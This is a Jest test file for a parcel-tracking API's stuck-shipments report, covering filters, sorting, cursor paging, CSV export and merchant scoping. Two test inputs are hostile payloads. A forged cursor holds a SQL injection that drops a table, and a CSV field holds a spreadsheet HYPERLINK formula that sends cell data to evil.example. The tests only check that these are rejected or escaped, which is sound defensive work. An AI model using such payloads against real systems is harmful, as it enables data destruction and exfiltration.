import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { findStuckShipments } from '@parcelwatch/db';
import { createMerchant, daysAgo, NOW, seedException, seedShipment, startReportApi, type ReportApi } from './report-test-kit.js';
import { spreadsheetSafe, STUCK_CSV_COLUMNS, stuckCsvRecord, type StuckItemView } from '../src/reports/stuck-report.routes.js';

// NOW is 2026-03-02T10:00Z. Tracking numbers name why a shipment is (or is not) stuck.
describe('GET /v1/reports/stuck', () => {
  let t: ReportApi;
  let merchantA: string;
  let merchantB: string;
  const stuckOfA = new Set<string>();

  beforeAll(async () => {
    t = await startReportApi();
    merchantA = await createMerchant(t.db);
    merchantB = await createMerchant(t.db);
    const a = { merchantId: merchantA };
    const stuck = async (trackingNumber: string, seed: Omit<Parameters<typeof seedShipment>[1], 'merchantId' | 'trackingNumber'>) => {
      stuckOfA.add(trackingNumber);
      return seedShipment(t.db, { ...a, trackingNumber, ...seed });
    };
    await stuck('SCAN10', { lastCheckpointAt: daysAgo(10), carrier: 'yunexpress', origin: 'CN', destination: 'US' });
    await stuck('PROMISE', { lastCheckpointAt: daysAgo(1), carrier: 'ups', destination: 'DE', promised: '2026-02-25' });
    const customs = await stuck('CUSTOMS', { lastCheckpointAt: daysAgo(1), carrier: 'dhl', promised: '2026-03-20' });
    await seedException(t.db, customs, merchantA, 'customs_hold');
    await stuck('NEVERSCANNED', { status: 'info_received', lastCheckpointAt: null, createdAt: daysAgo(8), carrier: 'ups' });
    // End of 2026-03-01 in Honolulu (UTC-10) is exactly NOW: passed.
    await stuck('HONOLULU', { lastCheckpointAt: daysAgo(0, 2), promised: '2026-03-01', buyerTimezone: 'Pacific/Honolulu' });
    const escalated = await stuck('LOSTESC', { status: 'exception', lastCheckpointAt: daysAgo(3), carrier: 'china-post' });
    await seedException(t.db, escalated, merchantA, 'lost', { status: 'escalated' });
    // Five shipments scanned at the same instant: the id breaks the tie across pages.
    for (let i = 0; i < 5; i += 1) await stuck(`TIE${i}`, { lastCheckpointAt: daysAgo(6), carrier: 'yunexpress', destination: 'GB' });
    for (let i = 0; i < 12; i += 1) await stuck(`OLD${i}`, { lastCheckpointAt: daysAgo(5 + i, i), carrier: i % 2 === 0 ? 'yunexpress' : 'ups', promised: i % 3 === 0 ? `2026-03-${String(10 + i).padStart(2, '0')}` : null });

    // Not stuck.
    await seedShipment(t.db, { ...a, trackingNumber: 'FRESH', lastCheckpointAt: daysAgo(1) });
    await seedShipment(t.db, { ...a, trackingNumber: 'DELIVERED', status: 'delivered', lastCheckpointAt: daysAgo(20), deliveredAt: daysAgo(20) });
    await seedShipment(t.db, { ...a, trackingNumber: 'RETURNED', status: 'exception', lastCheckpointAt: daysAgo(20), returnedAt: daysAgo(20) });
    // End of 2026-03-01 in Pago Pago (UTC-11) is an hour after NOW.
    await seedShipment(t.db, { ...a, trackingNumber: 'PAGOPAGO', lastCheckpointAt: daysAgo(0, 2), promised: '2026-03-01', buyerTimezone: 'Pacific/Pago_Pago' });
    const resolved = await seedShipment(t.db, { ...a, trackingNumber: 'RESOLVED', lastCheckpointAt: daysAgo(1) });
    await seedException(t.db, resolved, merchantA, 'stalled', { status: 'resolved' });
    await t.db.updateTable('shipments').set({ active: false }).where('id', '=', await seedShipment(t.db, { ...a, trackingNumber: 'INACTIVE', lastCheckpointAt: daysAgo(30) })).execute();

    const b = await seedShipment(t.db, { merchantId: merchantB, trackingNumber: 'B-STUCK', lastCheckpointAt: daysAgo(30), carrier: 'ups' });
    await seedException(t.db, b, merchantB, 'customs_hold');
  });
  afterAll(async () => t.close());

  const numbers = (body: { items: { trackingNumber: string }[] }) => body.items.map((item) => item.trackingNumber);
  const all = async (query: string, merchants: readonly string[] = [merchantA]) => {
    const response = await t.get(`/v1/reports/stuck?limit=500${query}`, merchants);
    expect(response.status).toBe(200);
    expect(response.body.nextCursor).toBeNull();
    return numbers(response.body);
  };

  it('lists exactly the stuck shipments, most days without a scan first, with why', async () => {
    const response = await t.get('/v1/reports/stuck?limit=500', [merchantA]);
    expect(response.status).toBe(200);
    expect(new Set(numbers(response.body))).toEqual(stuckOfA);
    const days = response.body.items.map((item: { daysWithoutScan: number }) => item.daysWithoutScan);
    expect(days).toEqual([...days].sort((x, y) => y - x));
    expect(response.body.items[0]).toMatchObject({ trackingNumber: 'OLD11', daysWithoutScan: 16, milestone: 'in_transit', openExceptions: [] });
    const byNumber = new Map(response.body.items.map((item: { trackingNumber: string }) => [item.trackingNumber, item]));
    expect(byNumber.get('CUSTOMS')).toMatchObject({ openExceptions: ['customs_hold'], promisedDatePassed: false, daysWithoutScan: 1 });
    expect(byNumber.get('PROMISE')).toMatchObject({ promisedDatePassed: true, promisedDeliveryDate: '2026-02-25', destinationCountry: 'DE' });
    expect(byNumber.get('NEVERSCANNED')).toMatchObject({ lastCheckpointAt: null, daysWithoutScan: 8 });
    expect(byNumber.get('LOSTESC')).toMatchObject({ openExceptions: ['lost'], milestone: 'exception' });
  });

  it('applies each filter alone', async () => {
    expect(new Set(await all('&carrier=ups'))).toEqual(new Set(['PROMISE', 'NEVERSCANNED', 'OLD1', 'OLD3', 'OLD5', 'OLD7', 'OLD9', 'OLD11']));
    expect(new Set(await all('&destination=gb'))).toEqual(new Set(['TIE0', 'TIE1', 'TIE2', 'TIE3', 'TIE4']));
    expect(new Set(await all('&origin=CN&destination=DE'))).toEqual(new Set(['PROMISE']));
    expect(await all('&milestone=info_received')).toEqual(['NEVERSCANNED']);
    expect(await all('&exceptionKind=customs_hold')).toEqual(['CUSTOMS']);
    expect(await all('&exceptionKind=lost')).toEqual(['LOSTESC']);
    expect(new Set(await all('&minDays=10'))).toEqual(new Set(['SCAN10', 'OLD5', 'OLD6', 'OLD7', 'OLD8', 'OLD9', 'OLD10', 'OLD11']));
    expect(new Set(await all('&promisedPassed=true'))).toEqual(new Set(['PROMISE', 'HONOLULU']));
    expect((await all('&promisedPassed=false')).length).toBe(stuckOfA.size - 2);
    expect(await all(`&merchantId=${merchantA}&carrier=dhl`)).toEqual(['CUSTOMS']);
  });

  it('finds the same shipments for an exception kind whether it starts from the exceptions or walks the sort index', async () => {
    for (const kind of ['customs_hold', 'lost', 'stalled'] as const) {
      const query = { now: new Date(NOW), scope: [merchantA], filters: { exceptionKind: kind }, sort: 'days_without_scan' as const, order: 'desc' as const, limit: 100 };
      const fromExceptions = await findStuckShipments(t.db, { ...query, exceptionFirstBelow: 1_000 });
      const fromIndex = await findStuckShipments(t.db, { ...query, exceptionFirstBelow: 0 });
      expect(fromExceptions.rows.map((row) => row.tracking_number)).toEqual(fromIndex.rows.map((row) => row.tracking_number));
      expect(fromIndex.rows.length).toBe(kind === 'stalled' ? 0 : 1);
    }
  });

  it('sorts by promised date and by last checkpoint, either way', async () => {
    const promised = await t.get('/v1/reports/stuck?limit=500&sort=promised_date', [merchantA]);
    const dates = promised.body.items.map((item: { promisedDeliveryDate: string | null }) => item.promisedDeliveryDate);
    expect(dates.slice(0, 3)).toEqual(['2026-02-25', '2026-03-01', '2026-03-10']);
    // Shipments without a promise come last.
    expect(dates.slice(-3)).toEqual([null, null, null]);
    const recent = await all('&sort=last_checkpoint');
    expect(recent[0]).toBe('HONOLULU');
    const oldest = await all('&sort=last_checkpoint&order=asc');
    expect(oldest[0]).toBe('OLD11');
    const fewest = await all('&sort=days_without_scan&order=asc');
    expect(fewest).toEqual(recent);
  });

  it.each([
    ['days_without_scan', 'desc'],
    ['days_without_scan', 'asc'],
    ['promised_date', 'asc'],
    ['promised_date', 'desc'],
    ['last_checkpoint', 'desc'],
    ['last_checkpoint', 'asc'],
  ])('pages by cursor (sort %s %s): every row once, in the one-page order', async (sort, order) => {
    const whole = await all(`&sort=${sort}&order=${order}`);
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const query: string = `/v1/reports/stuck?limit=4&sort=${sort}&order=${order}${cursor === null ? '' : `&cursor=${encodeURIComponent(cursor)}`}`;
      const response = await t.get(query, [merchantA]);
      expect(response.status).toBe(200);
      expect(response.body.items.length).toBeLessThanOrEqual(4);
      seen.push(...numbers(response.body));
      cursor = response.body.nextCursor;
      pages += 1;
    } while (cursor !== null);
    expect(pages).toBe(Math.ceil(whole.length / 4));
    expect(seen).toEqual(whole);
  });

  it('streams CSV with a header row and the same rows as the JSON pages', async () => {
    const json = await t.get('/v1/reports/stuck?limit=500&sort=promised_date', [merchantA]);
    const csv = await t.get('/v1/reports/stuck?format=csv&sort=promised_date&limit=3', [merchantA]);
    expect(csv.status).toBe(200);
    expect(csv.contentType).toMatch(/^text\/csv/);
    const [header, ...rows] = parse(csv.text) as string[][];
    expect(header).toEqual(['shipmentId', 'merchantId', 'orderId', 'trackingNumber', 'carrier', 'originCountry', 'destinationCountry', 'milestone', 'reason',
      'lastCheckpointAt', 'daysWithoutScan', 'promisedDeliveryDate', 'promisedDatePassed', 'openExceptions']);
    const expected = json.body.items.map((item: Record<string, unknown>) =>
      header!.map((column) => {
        const value = item[column];
        if (value === null) return '';
        return Array.isArray(value) ? value.join(';') : String(value);
      }),
    );
    expect(rows).toEqual(expected);
  });

  it("shows merchant B's parcels to nobody scoped to merchant A, and nothing to a key with no merchants", async () => {
    expect(await all('')).not.toContain('B-STUCK');
    expect(await all('', [merchantB])).toEqual(['B-STUCK']);
    expect(await all(`&merchantId=${merchantB}`)).toEqual([]);
    expect(await all('', [])).toEqual([]);
    const csv = await t.get('/v1/reports/stuck?format=csv', [merchantB]);
    expect(csv.text).toContain('B-STUCK');
    expect(csv.text).not.toContain('SCAN10');
    // With access turned off (the explicit access-off caller) there is no limit.
    const unscoped = await t.get('/v1/reports/stuck?limit=500');
    expect(numbers(unscoped.body)).toContain('B-STUCK');
    expect(numbers(unscoped.body)).toContain('SCAN10');
  });

  it('answers 400 with a message for bad parameters and for a cursor of another ordering', async () => {
    for (const query of ['limit=0', 'limit=501', 'minDays=-1', 'milestone=flying', 'exceptionKind=bored', 'origin=CHN', 'sort=name', 'promisedPassed=yes', 'merchantId=42', 'colour=red']) {
      const response = await t.get(`/v1/reports/stuck?${query}`, [merchantA]);
      expect(response.status).toBe(400);
      expect(response.body).toMatchObject({ error: 'invalid_request' });
      expect(response.body.message).toMatch(query.startsWith('colour') ? /colour/ : new RegExp(query.split('=')[0]!));
    }
    const first = await t.get('/v1/reports/stuck?limit=2', [merchantA]);
    const other = await t.get(`/v1/reports/stuck?limit=2&sort=promised_date&cursor=${first.body.nextCursor}`, [merchantA]);
    expect(other.status).toBe(400);
    expect(other.body).toMatchObject({ error: 'invalid_cursor', message: expect.stringContaining('sort=days_without_scan') });
    const garbage = await t.get('/v1/reports/stuck?cursor=bm90LWpzb24', [merchantA]);
    expect(garbage.status).toBe(400);
  });

  it('answers 400, never 500, for forged cursors that decode but would choke the query', async () => {
    const forge = (body: unknown) => Buffer.from(JSON.stringify(body)).toString('base64url');
    const id = '7d0c6a1e-2b1f-4c3a-9d7e-0a1b2c3d4e5f';
    const forged = [
      forge(null),
      forge([1, 2]),
      forge('text'),
      forge({ s: 'days_without_scan', o: 'desc', k: 'not-a-time', i: id }),
      forge({ s: 'days_without_scan', o: 'desc', k: '2026-02-30 10:00:00+00', i: id }),
      forge({ s: 'days_without_scan', o: 'desc', k: '2026-11-23 25:00:00+00', i: id }),
      forge({ s: 'days_without_scan', o: 'desc', k: "2026-11-23 10:00:00+00'); DROP TABLE shipments; --", i: id }),
      forge({ s: 'days_without_scan', o: 'desc', k: '2026-11-23 10:00:00+00', i: '------------------------------------' }),
      forge({ s: 'days_without_scan', o: 'desc', k: 42, i: id }),
      forge({ s: 'promised_date', o: 'asc', k: '2026-13-01', i: id }),
    ];
    for (const [n, cursor] of forged.entries()) {
      const sort = n === forged.length - 1 ? '&sort=promised_date' : '';
      const response = await t.get(`/v1/reports/stuck?limit=2${sort}&cursor=${cursor}`, [merchantA]);
      expect({ n, status: response.status, error: response.body.error }).toEqual({ n, status: 400, error: 'invalid_cursor' });
    }
    const fine = await t.get(`/v1/reports/stuck?limit=2&cursor=${forge({ s: 'days_without_scan', o: 'desc', k: '2026-11-23 10:00:00.5+00', i: id })}`, [merchantA]);
    expect(fine.status).toBe(200);
  });
});

describe('the stuck CSV in a spreadsheet', () => {
  it('shows formula-looking cells as text (an apostrophe before = + - @ tab and CR), the rest unchanged', () => {
    const item = {
      shipmentId: '7d0c6a1e-2b1f-4c3a-9d7e-0a1b2c3d4e5f', merchantId: '1d0c6a1e-2b1f-4c3a-9d7e-0a1b2c3d4e5f',
      orderId: '=HYPERLINK("http://evil.example/?"&A1,"open")', trackingNumber: '+1-555-0100', carrier: '@carrier',
      originCountry: 'CN', destinationCountry: 'US', milestone: 'in_transit' as const, reason: '\t=1+1',
      lastCheckpointAt: null, daysWithoutScan: 9, promisedDeliveryDate: '2026-03-01', promisedDatePassed: true, openExceptions: ['stalled' as const],
    };
    const record = stuckCsvRecord(item as StuckItemView);
    expect(Object.fromEntries(STUCK_CSV_COLUMNS.map((column, i) => [column, record[i]]))).toEqual({
      shipmentId: item.shipmentId, merchantId: item.merchantId,
      orderId: `'=HYPERLINK("http://evil.example/?"&A1,"open")`, trackingNumber: "'+1-555-0100", carrier: "'@carrier",
      originCountry: 'CN', destinationCountry: 'US', milestone: 'in_transit', reason: "'\t=1+1",
      lastCheckpointAt: '', daysWithoutScan: '9', promisedDeliveryDate: '2026-03-01', promisedDatePassed: 'true', openExceptions: 'stalled',
    });
    expect(spreadsheetSafe('-3')).toBe("'-3");
    expect(spreadsheetSafe('ORDER-=1')).toBe('ORDER-=1');
  });
});
